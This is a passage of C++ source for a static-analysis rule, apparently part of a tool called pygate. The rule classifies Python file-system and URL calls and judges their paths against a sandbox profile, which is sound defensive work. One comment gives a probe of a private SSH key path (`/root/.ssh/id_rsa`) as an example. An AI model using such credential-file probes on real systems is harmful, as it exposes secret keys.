#include <fmt/format.h>

#include <algorithm>
#include <array>
#include <optional>
#include <string>
#include <vector>

#include "analyzer/model/qualified_name_pattern.hpp"
#include "analyzer/profile.hpp"
#include "analyzer/syntax/python_symbols.hpp"
#include "analyzer/text/unicode.hpp"
#include "rules/catalogue.hpp"
#include "rules/utils/library_effects.hpp"
#include "rules/utils/listed_names.hpp"
#include "rules/utils/name_table.hpp"
#include "rules/utils/pg006_contract_hint.hpp"
#include "rules/utils/pg006_path_prefix.hpp"
#include "rules/utils/pg006_request_url_store.hpp"
#include "rules/utils/pg006_url_scheme.hpp"
#include "rules/utils/untraced_method_call.hpp"

namespace pygate::rules {
namespace {

using analyzer::Node;

using analyzer::Referent;
using analyzer::Referents;
using analyzer::Severity;

constexpr analyzer::RuleNumber k_rule = 6;
constexpr std::array<std::string_view, 3> k_cwe = {"CWE-22", "CWE-73", "CWE-552"};

// What a call does with the path it is given.
enum class Access : std::uint8_t {
    read,
    write,
    by_mode,         // open-like: the mode argument decides (w, a, x, + write; absent: read; unknown: write)
    by_flags,        // os.open: read only with os.O_RDONLY alone
    change_folder,   // os.chdir: every relative path means something else afterwards
    temporary_file,  // tempfile: the system's temporary folder, outside the working folder
    url,             // urllib: a `file:` URL is a local file to read (url_scheme.hpp)
    // A read of a path relative to the library's own data folder, not the
    // working folder (matplotlib's get_sample_data joins it to
    // mpl-data/sample_data): a constant relative name without `..` reads the
    // library's bundled files; an absolute path or `..` reads anywhere.
    library_data,
};

// Where a path (or a mode) is passed.
struct Argument {
    static constexpr int k_none = -1;
    static constexpr int k_object = -2;  // the Path a method is called on

    constexpr Argument(int at = k_none, std::string_view name = {}, std::string_view when_absent = {})
        : position(at), keyword(name), absent(when_absent) {}

    int position;
    std::string_view keyword;
    std::string_view absent;  // what an omitted argument means ("." for os.listdir()); empty: no access
};

constexpr Argument k_no_path{};
constexpr Argument k_object{Argument::k_object, {}, {}};

struct FileApi {
    std::string_view pattern;  // analyzer/model/qualified_name_pattern.hpp
    std::string_view what;
    Access access;
    Argument path;
    Argument mode;  // by_mode, by_flags
    Argument second_path = k_no_path;
    Access second_access = Access::write;
    // A constant that starts so is a document the function parses, never a
    // path it opens (pandas.read_xml takes "<..." for XML text).
    std::string_view document_prefix = {};
};

// Every file-touching API of the catalogue, as data.
constexpr FileApi k_file_apis[] = {
    {"builtins.open", "opens a file", Access::by_mode, {0, "file"}, {1, "mode", "r"}},
    {"io.open", "opens a file", Access::by_mode, {0, "file"}, {1, "mode", "r"}},
    {"urllib.request.urlopen", "opens a URL", Access::url, {0, "url"}, {}},
    {"urllib.request.OpenerDirector.open", "opens a URL", Access::url, {0, "fullurl"}, {}},
    {"urllib.request.*URLopener.open", "opens a URL", Access::url, {0, "fullurl"}, {}},
    // Without a filename it downloads to a temporary file: outside the working folder too.
    {"urllib.request.urlretrieve", "downloads to a file", Access::url, {0, "url"}, {}, {1, "filename", "/tmp/"}},
    {"urllib.request.*URLopener.retrieve",
     "downloads to a file",
     Access::url,
     {0, "url"},
     {},
     {1, "filename", "/tmp/"}},
    // The openers' own file methods read the path (or a request's selector) whatever the scheme.
    {"urllib.request.*URLopener.open_local_file", "reads a file", Access::read, {0, "url"}, {}},
    {"urllib.request.*URLopener.open_file", "reads a file", Access::read, {0, "url"}, {}},
    {"urllib.request.FileHandler.file_open", "reads a file", Access::read, {0, "req"}, {}},
    {"urllib.request.FileHandler.open_local_file", "reads a file", Access::read, {0, "req"}, {}},
    {"io.FileIO", "opens a file", Access::by_mode, {0, "file"}, {1, "mode", "r"}},
    {"io.open_code", "reads a file", Access::read, {0, "path"}, {}},
    {"tokenize.open", "reads a file", Access::read, {0, "filename"}, {}},
    {"codecs.open", "opens a file", Access::by_mode, {0, "filename"}, {1, "mode", "r"}},
    {"os.open", "opens a file", Access::by_flags, {0, "path"}, {1, "flags"}},
    {"os.fdopen", "opens a file descriptor", Access::by_mode, k_no_path, {1, "mode", "r"}},
    {"pathlib.*Path.open", "opens a file", Access::by_mode, k_object, {0, "mode", "r"}},
    {"pathlib.*Path.read_text", "reads a file", Access::read, k_object, {}},
    {"pathlib.*Path.read_bytes", "reads a file", Access::read, k_object, {}},
    {"pathlib.*Path.iterdir", "lists a folder", Access::read, k_object, {}},
    {"pathlib.*Path.glob", "lists files", Access::read, k_object, {}},
    {"pathlib.*Path.rglob", "lists files", Access::read, k_object, {}},
    {"pathlib.*Path.write_text", "writes a file", Access::write, k_object, {}},
    {"pathlib.*Path.write_bytes", "writes a file", Access::write, k_object, {}},
    {"pathlib.*Path.touch", "creates a file", Access::write, k_object, {}},
    {"pathlib.*Path.mkdir", "creates a folder", Access::write, k_object, {}},
    {"pathlib.*Path.unlink", "deletes a file", Access::write, k_object, {}},
    {"pathlib.*Path.rmdir", "deletes a folder", Access::write, k_object, {}},
    {"pathlib.*Path.chmod", "changes permissions", Access::write, k_object, {}},
    {"pathlib.*Path.lchmod", "changes permissions", Access::write, k_object, {}},
    {"pathlib.*Path.rename", "renames a file", Access::write, k_object, {}, {0, "target"}},
    {"pathlib.*Path.replace", "renames a file", Access::write, k_object, {}, {0, "target"}},
    {"pathlib.*Path.symlink_to", "creates a link", Access::write, k_object, {}, {0, "target"}},
    {"pathlib.*Path.hardlink_to", "creates a link", Access::write, k_object, {}, {0, "target"}},
    {"os.remove", "deletes a file", Access::write, {0, "path"}, {}},
    {"os.unlink", "deletes a file", Access::write, {0, "path"}, {}},
    {"os.rmdir", "deletes a folder", Access::write, {0, "path"}, {}},
    {"os.removedirs", "deletes folders", Access::write, {0, "name"}, {}},
    {"os.mkdir", "creates a folder", Access::write, {0, "path"}, {}},
    {"os.makedirs", "creates folders", Access::write, {0, "name"}, {}},
    {"os.chmod", "changes permissions", Access::write, {0, "path"}, {}},
    {"os.chown", "changes ownership", Access::write, {0, "path"}, {}},
    {"os.lchown", "changes ownership", Access::write, {0, "path"}, {}},
    {"os.truncate", "truncates a file", Access::write, {0, "path"}, {}},
    {"os.utime", "changes file times", Access::write, {0, "path"}, {}},
    {"os.mkfifo", "creates a pipe", Access::write, {0, "path"}, {}},
    {"os.mknod", "creates a device node", Access::write, {0, "path"}, {}},
    {"os.rename", "renames a file", Access::write, {0, "src"}, {}, {1, "dst"}},
    {"os.renames", "renames a file", Access::write, {0, "old"}, {}, {1, "new"}},
    {"os.replace", "renames a file", Access::write, {0, "src"}, {}, {1, "dst"}},
    {"os.link", "creates a link", Access::write, {0, "src"}, {}, {1, "dst"}},
    {"os.symlink", "creates a link", Access::write, {0, "src"}, {}, {1, "dst"}},
    // What a path holds, without opening it: whether it exists, its size, times and owner tell what
    // the profile keeps out of reach (`os.path.exists("/root/.ssh/id_rsa")`), so they are reads.
    {"os.path.exists", "checks a path", Access::read, {0, "path"}, {}},
    {"os.path.lexists", "checks a path", Access::read, {0, "path"}, {}},
    {"os.path.isfile", "checks a path", Access::read, {0, "path"}, {}},
    {"os.path.isdir", "checks a path", Access::read, {0, "s"}, {}},
    {"os.path.islink", "checks a path", Access::read, {0, "path"}, {}},
    {"os.path.ismount", "checks a path", Access::read, {0, "path"}, {}},
    {"os.path.getsize", "reads a file's size", Access::read, {0, "filename"}, {}},
    {"os.path.getmtime", "reads a file's times", Access::read, {0, "filename"}, {}},
    {"os.path.getatime", "reads a file's times", Access::read, {0, "filename"}, {}},
    {"os.path.getctime", "reads a file's times", Access::read, {0, "filename"}, {}},
    {"os.path.samefile", "compares two files", Access::read, {0, "f1"}, {}, {1, "f2"}, Access::read},
    {"os.stat", "reads a file's metadata", Access::read, {0, "path"}, {}},
    {"os.lstat", "reads a file's metadata", Access::read, {0, "path"}, {}},
    {"os.access", "checks a path", Access::read, {0, "path"}, {}},
    {"os.readlink", "reads a link", Access::read, {0, "path"}, {}},
    {"pathlib.*Path.exists", "checks a path", Access::read, k_object, {}},
    {"pathlib.*Path.is_dir", "checks a path", Access::read, k_object, {}},
    {"pathlib.*Path.is_file", "checks a path", Access::read, k_object, {}},
    {"pathlib.*Path.is_symlink", "checks a path", Access::read, k_object, {}},
    {"pathlib.*Path.is_mount", "checks a path", Access::read, k_object, {}},
    {"pathlib.*Path.is_socket", "checks a path", Access::read, k_object, {}},
    {"pathlib.*Path.is_fifo", "checks a path", Access::read, k_object, {}},
    {"pathlib.*Path.is_block_device", "checks a path", Access::read, k_object, {}},
    {"pathlib.*Path.is_char_device", "checks a path", Access::read, k_object, {}},
    {"pathlib.*Path.stat", "reads a file's metadata", Access::read, k_object, {}},
    {"pathlib.*Path.lstat", "reads a file's metadata", Access::read, k_object, {}},
    {"pathlib.*Path.owner", "reads a file's owner", Access::read, k_object, {}},
    {"pathlib.*Path.group", "reads a file's group", Access::read, k_object, {}},
    {"pathlib.*Path.readlink", "reads a link", Access::read, k_object, {}},
    {"pathlib.*Path.samefile", "compares two files", Access::read, k_object, {}, {0, "other_path"}, Access::read},
    {"os.listdir", "lists a folder", Access::read, {0, "path", "."}, {}},
    {"os.scandir", "lists a folder", Access::read, {0, "path", "."}, {}},
    {"os.walk", "walks a folder tree", Access::read, {0, "top"}, {}},
    {"os.chdir", "changes the working folder", Access::change_folder, k_no_path, {}},
    {"os.fchdir", "changes the working folder", Access::change_folder, k_no_path, {}},
    {"os.chroot", "changes the root folder", Access::change_folder, k_no_path, {}},
    {"shutil.copy", "copies a file", Access::read, {0, "src"}, {}, {1, "dst"}},
    {"shutil.copy2", "copies a file", Access::read, {0, "src"}, {}, {1, "dst"}},
    {"shutil.copyfile", "copies a file", Access::read, {0, "src"}, {}, {1, "dst"}},
    {"shutil.copytree", "copies a folder tree", Access::read, {0, "src"}, {}, {1, "dst"}},
    {"shutil.copymode", "copies permissions", Access::read, {0, "src"}, {}, {1, "dst"}},
    {"shutil.copystat", "copies file metadata", Access::read, {0, "src"}, {}, {1, "dst"}},
    {"shutil.move", "moves a file", Access::write, {0, "src"}, {}, {1, "dst"}},
    {"shutil.rmtree", "deletes a folder tree", Access::write, {0, "path"}, {}},
    {"shutil.make_archive", "writes an archive", Access::write, {0, "base_name"}, {}},
    {"shutil.unpack_archive", "extracts an archive", Access::read, {0, "filename"}, {}, {1, "extract_dir", "."}},
    {"shutil.*", "changes files", Access::write, {0, "path"}, {}},
    {"tempfile.*", "creates temporary files", Access::temporary_file, k_no_path, {}},
    {"glob.glob", "lists files", Access::read, {0, "pathname"}, {}},
    {"glob.iglob", "lists files", Access::read, {0, "pathname"}, {}},
    {"tarfile.open", "opens an archive", Access::by_mode, {0, "name"}, {1, "mode", "r"}},
    {"tarfile.TarFile.extractall", "extracts an archive", Access::write, {0, "path", "."}, {}},
    {"tarfile.TarFile.extract", "extracts from an archive", Access::write, {1, "path", "."}, {}},
    {"zipfile.ZipFile", "opens an archive", Access::by_mode, {0, "file"}, {1, "mode", "r"}},
    {"zipfile.ZipFile.extractall", "extracts an archive", Access::write, {0, "path", "."}, {}},
    {"zipfile.ZipFile.extract", "extracts from an archive", Access::write, {1, "path", "."}, {}},
    // mmap_mode "r+" and "w+" map the file for writing.
    {"numpy.load", "reads a file", Access::by_mode, {0, "file"}, {1, "mmap_mode", "r"}},
    {"numpy.*.load", "reads a file", Access::by_mode, {0, "file"}, {1, "mmap_mode", "r"}},
    {"numpy.loadtxt", "reads a file", Access::read, {0, "fname"}, {}},
    {"numpy.*.loadtxt", "reads a file", Access::read, {0, "fname"}, {}},
    {"numpy.genfromtxt", "reads a file", Access::read, {0, "fname"}, {}},
    {"numpy.*.genfromtxt", "reads a file", Access::read, {0, "fname"}, {}},
    {"numpy.fromfile", "reads a file", Access::read, {0, "file"}, {}},
    {"numpy.*.fromfile", "reads a file", Access::read, {0, "file"}, {}},
    {"numpy.save", "writes a file", Access::write, {0, "file"}, {}},
    {"numpy.*.save", "writes a file", Access::write, {0, "file"}, {}},
    {"numpy.savez", "writes a file", Access::write, {0, "file"}, {}},
    {"numpy.*.savez", "writes a file", Access::write, {0, "file"}, {}},
    {"numpy.savez_compressed", "writes a file", Access::write, {0, "file"}, {}},
    {"numpy.*.savez_compressed", "writes a file", Access::write, {0, "file"}, {}},
    {"numpy.savetxt", "writes a file", Access::write, {0, "fname"}, {}},
    {"numpy.*.savetxt", "writes a file", Access::write, {0, "fname"}, {}},
    {"numpy.ndarray.tofile", "writes a file", Access::write, {0, "fid"}, {}},
    {"numpy.ndarray.dump", "writes a file", Access::write, {0, "file"}, {}},
    {"numpy.memmap", "maps a file", Access::by_mode, {0, "filename"}, {2, "mode", "r+"}},
    {"numpy.*.memmap", "maps a file", Access::by_mode, {0, "filename"}, {2, "mode", "r+"}},
    {"numpy.lib.format.open_memmap", "maps a file", Access::by_mode, {0, "filename"}, {1, "mode", "r+"}},
    {"numpy.fromregex", "reads a file", Access::read, {0, "file"}, {}},
    {"numpy.*.fromregex", "reads a file", Access::read, {0, "file"}, {}},
    {"numpy.recfromcsv", "reads a file", Access::read, {0, "fname"}, {}},
    {"numpy.*.recfromcsv", "reads a file", Access::read, {0, "fname"}, {}},
    {"numpy.recfromtxt", "reads a file", Access::read, {0, "fname"}, {}},
    {"numpy.*.recfromtxt", "reads a file", Access::read, {0, "fname"}, {}},
    {"pandas.read_csv", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
    {"pandas.*.read_csv", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
    {"pandas.read_table", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
    {"pandas.*.read_table", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
    {"pandas.read_fwf", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
    {"pandas.*.read_fwf", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
    {"pandas.read_json", "reads a file", Access::read, {0, "path_or_buf"}, {}},
    {"pandas.*.read_json", "reads a file", Access::read, {0, "path_or_buf"}, {}},
    {"pandas.read_excel", "reads a file", Access::read, {0, "io"}, {}},
    {"pandas.*.read_excel", "reads a file", Access::read, {0, "io"}, {}},
    {"pandas.read_parquet", "reads a file", Access::read, {0, "path"}, {}},
    {"pandas.*.read_parquet", "reads a file", Access::read, {0, "path"}, {}},
    {"pandas.read_feather", "reads a file", Access::read, {0, "path"}, {}},
    {"pandas.*.read_feather", "reads a file", Access::read, {0, "path"}, {}},
    {"pandas.read_orc", "reads a file", Access::read, {0, "path"}, {}},
    {"pandas.*.read_orc", "reads a file", Access::read, {0, "path"}, {}},
    {"pandas.read_pickle", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
    {"pandas.*.read_pickle", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
    {"pandas.read_hdf", "reads a file", Access::read, {0, "path_or_buf"}, {}},
    {"pandas.*.read_hdf", "reads a file", Access::read, {0, "path_or_buf"}, {}},
    {"pandas.read_stata", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
    {"pandas.*.read_stata", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
    {"pandas.read_sas", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
    {"pandas.*.read_sas", "reads a file", Access::read, {0, "filepath_or_buffer"}, {}},
    {"pandas.read_spss", "reads a file", Access::read, {0, "path"}, {}},
    {"pandas.*.read_spss", "reads a file", Access::read, {0, "path"}, {}},
    // pandas.read_xml and what pandas holds it as (pandas.io.xml.read_xml).
    {"pandas.*read_xml",
     "reads a file (a string that starts with < is the XML itself)",
     Access::read,
     {0, "path_or_buffer"},
     {},
     k_no_path,
     Access::write,
     "<"},
    {"pandas.read_html", "reads a file", Access::read, {0, "io"}, {}},
    {"pandas.*.read_html", "reads a file", Access::read, {0, "io"}, {}},
    {"pandas.*.to_csv", "writes a file", Access::write, {0, "path_or_buf", ""}, {}},
    {"pandas.*.to_json", "writes a file", Access::write, {0, "path_or_buf", ""}, {}},
    {"pandas.*.to_excel", "writes a file", Access::write, {0, "excel_writer"}, {}},
    {"pandas.*.to_parquet", "writes a file", Access::write, {0, "path", ""}, {}},
    {"pandas.*.to_feather", "writes a file", Access::write, {0, "path"}, {}},
    {"pandas.*.to_orc", "writes a file", Access::write, {0, "path", ""}, {}},
    {"pandas.*.to_pickle", "writes a file", Access::write, {0, "path"}, {}},
    {"pandas.*.to_hdf", "writes a file", Access::write, {0, "path_or_buf"}, {}},
    {"pandas.*.to_stata", "writes a file", Access::write, {0, "path"}, {}},
    {"pandas.*.to_xml", "writes a file", Access::write, {0, "path_or_buffer", ""}, {}},
    {"pandas.*.to_html", "writes a file", Access::write, {0, "buf", ""}, {}},
    {"pandas.*.to_markdown", "writes a file", Access::write, {0, "buf", ""}, {}},
    {"pandas.*.to_latex", "writes a file", Access::write, {0, "buf", ""}, {}},
    {"pandas.*.to_string", "writes a file", Access::write, {0, "buf", ""}, {}},
    {"pandas.ExcelWriter", "writes a file", Access::write, {0, "path"}, {}},
    {"pandas.HDFStore", "opens a data file", Access::by_mode, {0, "path"}, {1, "mode", "a"}},
    {"matplotlib.pyplot.savefig", "saves a figure", Access::write, {0, "fname"}, {}},
    {"matplotlib.pyplot.imsave", "writes an image", Access::write, {0, "fname"}, {}},
    {"matplotlib.image.imsave", "writes an image", Access::write, {0, "fname"}, {}},
    {"matplotlib.pyplot.imread", "reads a file", Access::read, {0, "fname"}, {}},
    {"matplotlib.rc_file", "reads a settings file", Access::read, {0, "fname"}, {}},
    {"matplotlib.pyplot.rc_file", "reads a settings file", Access::read, {0, "fname"}, {}},
    {"matplotlib.image.imread", "reads a file", Access::read, {0, "fname"}, {}},
    {"matplotlib.backends.backend_pdf.PdfPages", "writes a file", Access::write, {0, "filename"}, {}},
    {"matplotlib.figure.Figure.savefig", "saves a figure", Access::write, {0, "fname"}, {}},
    // seaborn's savers hand their path to the figure's savefig (rules/utils/figure_savers.hpp).
    {"seaborn.*.savefig", "saves a figure", Access::write, {0, "fname"}, {}},
    {"seaborn.*Plot.save", "saves a figure", Access::write, {0, "loc"}, {}},
    {"seaborn.*Plotter.save", "saves a figure", Access::write, {0, "loc"}, {}},
    // Animation.save writes its file whichever writer makes it (PG004 judges the writer).
    {"matplotlib.animation.*Animation.save", "saves an animation", Access::write, {0, "filename"}, {}},
    {"sqlite3.connect", "opens a database file", Access::write, {0, "database"}, {}},
    {"pandas.to_pickle", "writes a file", Access::write, {1, "filepath_or_buffer"}, {}},
    {"pandas.ExcelFile", "reads a file", Access::read, {0, "path_or_buffer"}, {}},
    {"pandas.show_versions", "writes a file", Access::write, {0, "as_json", ""}, {}},
    {"matplotlib.cbook.get_sample_data",
     "reads matplotlib's sample data (an absolute path or `..` anywhere)",
     Access::library_data,
     {0, "fname"},
     {}},
    {"matplotlib.*.get_sample_data",
     "reads matplotlib's sample data (an absolute path or `..` anywhere)",
     Access::library_data,
     {0, "fname"},
     {}},
    {"matplotlib.rc_params_from_file", "reads a settings file", Access::read, {0, "fname"}, {}},
    {"matplotlib.*.rc_params_from_file", "reads a settings file", Access::read, {0, "fname"}, {}},
    {"matplotlib.image.thumbnail", "reads an image", Access::read, {0, "infile"}, {}, {1, "thumbfile"}},
    // An image artist's write_png (AxesImage, FigureImage, ...) saves its pixels through PIL.
    {"matplotlib.image.*.write_png", "writes an image", Access::write, {0, "fname"}, {}},
    {"matplotlib.ft2font.FT2Font", "reads a font file", Access::read, {0, "filename"}, {}},
    {"matplotlib.font_manager.get_font", "reads a font file", Access::read, {0, "font_filepaths"}, {}},
    {"matplotlib.font_manager.json_load", "reads a file", Access::read, {0, "filename"}, {}},
    {"matplotlib.font_manager.json_dump", "writes a file", Access::write, {1, "filename"}, {}},
    {"matplotlib.type1font.Type1Font", "reads a font file", Access::read, {0, "input"}, {}},
    {"matplotlib.backends.backend_pdf.PdfFile", "writes a file", Access::write, {0, "filename"}, {}},
    {"matplotlib.rc_context", "reads a settings file", Access::read, {1, "fname", ""}, {}},
    {"matplotlib.*.rc_context", "reads a settings file", Access::read, {1, "fname", ""}, {}},
    {"matplotlib.font_manager.FontProperties", "reads a font file", Access::read, {6, "fname", ""}, {}},
    {"matplotlib.*.FontProperties", "reads a font file", Access::read, {6, "fname", ""}, {}},
    // set_file keeps the path; every draw of text in those properties opens it.
    {"matplotlib.font_manager.FontProperties.set_file", "reads a font file", Access::read, {0, "file", ""}, {}},
    {"matplotlib.font_manager.findfont", "lists a font folder", Access::read, {2, "directory", ""}, {}},
    {"matplotlib.font_manager.FontManager.findfont", "lists a font folder", Access::read, {2, "directory", ""}, {}},
    {"matplotlib.font_manager.is_opentype_cff_font", "reads a font file", Access::read, {0, "filename"}, {}},
    {"matplotlib.*FigureCanvas*.print_*", "saves a figure", Access::write, {0, "filename"}, {}},
    {"scipy.odr.*ODR", "writes report files", Access::write, {8, "errfile", ""}, {}, {9, "rptfile"}},
    {"seaborn.get_data_home",
     "creates a folder (~/seaborn-data by default)",
     Access::write,
     {0, "data_home", "~/seaborn-data"},
     {}},
    {"seaborn.*.get_data_home",
     "creates a folder (~/seaborn-data by default)",
     Access::write,
     {0, "data_home", "~/seaborn-data"},
     {}},
    {"scipy.io.*loadmat", "reads a file", Access::read, {0, "file_name"}, {}},
    {"scipy.io.*whosmat", "reads a file", Access::read, {0, "file_name"}, {}},
    {"scipy.io.*savemat", "writes a file", Access::write, {0, "file_name"}, {}},
    {"scipy.io.*mat_reader_factory", "reads a file", Access::read, {0, "file_name"}, {}},
    {"scipy.io.*mmread", "reads a file", Access::read, {0, "source"}, {}},
    {"scipy.io.*mminfo", "reads a file", Access::read, {0, "source"}, {}},
    {"scipy.io.*mmwrite", "writes a file", Access::write, {0, "target"}, {}},
    {"scipy.io.*hb_read", "reads a file", Access::read, {0, "path_or_open_file"}, {}},
    {"scipy.io.*hb_write", "writes a file", Access::write, {0, "path_or_open_file"}, {}},
    {"scipy.io.*readsav", "reads a file", Access::read, {0, "file_name"}, {}, {3, "uncompressed_file_name"}},
    {"scipy.io.*netcdf_file", "opens a data file", Access::by_mode, {0, "filename"}, {1, "mode", "r"}},
    {"scipy.io.*NetCDFFile", "opens a data file", Access::by_mode, {0, "filename"}, {1, "mode", "r"}},
    {"scipy.io.*FortranFile", "opens a data file", Access::by_mode, {0, "filename"}, {1, "mode", "r"}},
    {"scipy.io.wavfile.read", "reads a file", Access::read, {0, "filename"}, {}},
    {"scipy.io.wavfile.write", "writes a file", Access::write, {0, "filename"}, {}},
    {"scipy.io.*loadarff", "reads a file", Access::read, {0, "f"}, {}},
    {"scipy.sparse.*load_npz", "reads a file", Access::read, {0, "file"}, {}},
    {"scipy.sparse.*save_npz", "writes a file", Access::write, {0, "file"}, {}},
};

// Modules and helpers of allowed packages that open paths no entry above
// follows (pandas.io's handles, numpy's I/O internals, font and TeX file
// readers): any reference to them is a finding. The public functions above
// are the checked way to the same files.
constexpr NameEntry k_file_internal_entries[] = {
    {"numpy.lib.npyio.*", "numpy's file I/O internals (use numpy.load, numpy.save, ..., whose paths are checked)"},
    {"numpy.compat.*", "numpy's compatibility helpers open files and load modules by path"},
    {"numpy.ma.mrecords.fromtextfile", "reads a file"},
    {"numpy.ma.mrecords.openfile", "opens a file"},
    {"pandas.io.*", "pandas' file and network internals (use pandas.read_* and to_*, whose paths are checked)"},
    {"matplotlib.cbook.to_filehandle", "opens a file"},
    {"matplotlib.cbook.open_file_cm", "opens a file"},
    {"matplotlib.dviread", "reads TeX font files"},
    {"matplotlib.dviread.*", "reads TeX font files"},
    {"matplotlib.font_manager.findSystemFonts", "lists font folders"},
    {"matplotlib.font_manager.list_fonts", "lists font folders"},
    {"matplotlib.font_manager.get_fontconfig_fonts", "lists font folders"},
    {"matplotlib.font_manager.win32InstalledFonts", "lists font folders"},
    {"matplotlib.font_manager.*addfont", "reads a font file"},
    {"pandas.*.get_handle", "opens a file or URL"},
    {"pandas.util.testing.*", "pandas' test helpers write temporary files, fetch URLs and run processes"},
    {"numpy.testing.tempdir", "makes a temporary folder"},
    {"numpy.testing.temppath", "makes a temporary file"},
    {"numpy.testing.utils.tempdir", "makes a temporary folder"},
    {"numpy.testing.utils.temppath", "makes a temporary file"},
    {"scipy.io.*MMFile", "reads and writes Matrix Market files by path"},
    {"matplotlib.style.core.read_style_directory", "lists and reads a folder's style files"},
    {"matplotlib.style.core.update_user_library", "reads the user's style folder"},
    {"scipy.io.arff.arffread.test_weka", "reads a file"},
};
const NameTable k_file_internals{k_file_internal_entries};

// The same patterns as a NameTable, for the lookup; an entry's index is its API's.
std::vector<NameEntry> names_of_apis() {
    std::vector<NameEntry> out;
    for (const FileApi& api : k_file_apis)
        out.push_back({api.pattern, api.what});
    return out;
}
const std::vector<NameEntry> k_api_names = names_of_apis();
const NameTable k_api_table{k_api_names};

const FileApi& api_of(const NameEntry& entry) {
    return k_file_apis[&entry - k_api_names.data()];
}

std::vector<std::string> apis() {
    std::vector<std::string> out;
    for (const FileApi& api : k_file_apis)
        out.push_back(fmt::format("{}: {}", api.pattern, api.what));
    return out;
}
std::vector<std::string> path_rules() {
    return {
        "constant paths: literals, concatenation, f-strings of constants, pathlib.Path(...), `/`, "
        "os.path.join, joinpath, names bound to one",
        "absolute: `/...`, a leading `~`, Path.home(), os.getcwd(), abspath, realpath, resolve(), absolute()",
        "`..` that leaves the working folder",
        "open modes: w, a, x, + write; no mode reads; a mode that is not constant writes",
        "the profile's filesystem.read, filesystem.write, filesystem.write_deny and filesystem.dynamic_paths"};
}
std::vector<std::string> internals() {
    return patterns_of(k_file_internals);
}
constexpr std::array<RuleTable, 3> k_tables = {{{"File-touching calls", apis},
                                                {"Internals that open files, refused wherever referenced", internals},
                                                {"How paths are judged", path_rules}}};

// --- paths

// A relative path with `.` and empty parts removed and `..` applied; nothing
// when `..` climbs out of the working folder.
std::optional<std::string> normalised(std::string_view path) {
    std::vector<std::string_view> parts;
    while (!path.empty()) {
        std::size_t slash = path.find('/');
        std::string_view part = path.substr(0, slash);
        path = slash == std::string_view::npos ? std::string_view{} : path.substr(slash + 1);
        if (part.empty() || part == ".") continue;
        if (part == "..") {
            if (parts.empty()) return std::nullopt;
            parts.pop_back();
            continue;
        }
        parts.push_back(part);
    }
    return fmt::format("{}", fmt::join(parts, "/"));
}

// Whether `path`, relative to some folder, names a file inside it: not
// empty, no NUL, no `..` part (absolute paths are refused before).
bool names_inside_its_folder(std::string_view path) {
    if (path.empty() || path.find('\0') != std::string_view::npos) return false;
    for (std::string_view rest = path; !rest.empty();) {
        std::size_t slash = rest.find('/');
        if (rest.substr(0, slash) == "..") return false;
        rest = slash == std::string_view::npos ? std::string_view{} : rest.substr(slash + 1);
    }
    return true;
}

// Whether `path` (normalised) is `prefix` (a profile prefix such as "output/" or "./") or under it.
bool under(const std::string& path, const std::string& prefix) {
    std::optional<std::string> folder = normalised(prefix);
    if (!folder) return false;
    if (folder->empty()) return true;
    return path == *folder ||
           (path.starts_with(*folder) && path.size() > folder->size() && path[folder->size()] == '/');
}

bool under_any(const std::string& path, const std::vector<std::string>& prefixes) {
    return std::any_of(prefixes.begin(), prefixes.end(), [&](const std::string& p) { return under(path, p); });
}

// A write_deny pattern: `folder/` denies that folder wherever it appears in the
// path; any other pattern is a glob on the file name (`*.pth`, `.envrc`).
bool denied_by(const std::string& path, const std::string& pattern) {
    if (pattern.ends_with('/')) {
        std::optional<std::string> folder = normalised(pattern);
        if (!folder || folder->empty()) return false;
        std::string wrapped = "/" + path + "/";
        return wrapped.find("/" + *folder + "/") != std::string::npos;
    }
    std::string_view name = std::string_view(path).substr(path.rfind('/') + 1);
    return analyzer::matches_qualified_name(pattern, name);
}

std::string listed(const std::vector<std::string>& prefixes) {
    return prefixes.empty() ? std::string("none") : fmt::format("{}", fmt::join(prefixes, ", "));
}

// --- the check

class Check {
public:
    // `reached`: how the call was taken for the API; by default, how its callee resolved.
    Check(const analyzer::CallSite& site, analyzer::RuleContext& context, const FileApi& api, const NameEntry& entry,
          const Referent& referent, std::string reached = {})
        : m_site(site),
          m_context(context),
          m_api(api),
          m_entry(entry),
          m_referent(referent),
          m_profile(context.profile()),
          m_files(context.profile().filesystem),
          m_reached(reached.empty() ? context.how_reached(site.function, referent) : std::move(reached)) {}

    void run() {
        if (m_api.access == Access::url) {  // a URL is a file only with the file: scheme
            if (check_url() && m_api.second_path.position != Argument::k_none)
                check_path(m_api.second_path, m_api.second_access);
            return;
        }
        if (m_files.read.empty() && m_files.write.empty()) {
            report(Severity::error, fmt::format("profile {} allows no file access (filesystem.read and "
                                                "filesystem.write are empty)",
                                                m_profile.name));
            return;
        }
        switch (m_api.access) {
            case Access::change_folder:
                report(Severity::error, "it changes what every relative path means, so no path check would hold");
                return;
            case Access::temporary_file:
                report(Severity::error, "the system's temporary folder is outside the working folder");
                return;
            default:
                break;
        }
        bool first_done = check_path(m_api.path, access_of_first());
        if (first_done && m_api.second_path.position != Argument::k_none)
            check_path(m_api.second_path, m_api.second_access);
        // `open("input/a.csv", **options)`: judged as a read, and the mode the
        // unpacking may give is a review.
        if (first_done && m_api.access == Access::by_mode && unpacked(argument(m_api.mode)))
            report(Severity::warning, "an unpacking pygate cannot read may give its mode, and so open it for writing");
    }

private:
    const analyzer::CallSite& m_site;
    analyzer::RuleContext& m_context;
    const FileApi& m_api;
    const NameEntry& m_entry;
    const Referent& m_referent;
    const analyzer::Profile& m_profile;
    const analyzer::FilesystemPolicy& m_files;
    std::string m_reached;

    const analyzer::Model& model() const { return m_context.model(); }

    Node argument(const Argument& where) const {
        if (where.position == Argument::k_object) {
            Node function = m_site.function;
            return node_symbol(function) == analyzer::PythonSymbols::get().attribute
                       ? model().attribute_object(function)
                       : Node{};
        }
        if (where.position < 0) return {};
        Node given = model().argument(m_site.node, static_cast<std::uint32_t>(where.position), where.keyword);
        // A canvas's print_* methods name their path differently per backend (matplotlib 3.6).
